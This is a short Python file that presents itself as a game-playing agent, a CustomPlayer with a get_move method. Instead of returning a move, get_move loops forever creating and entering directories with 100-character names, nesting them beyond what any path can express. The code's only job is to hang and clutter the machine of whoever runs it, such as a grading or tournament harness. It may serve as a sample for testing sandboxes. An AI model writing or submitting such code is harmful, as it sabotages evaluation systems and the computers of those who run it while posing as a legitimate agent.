"""Makes a folder in a folder in a folder, deeper than any path can say."""

import os


class CustomPlayer:
    def get_move(self, game, time_left):
        while True:
            os.mkdir("a" * 100)
            os.chdir("a" * 100)
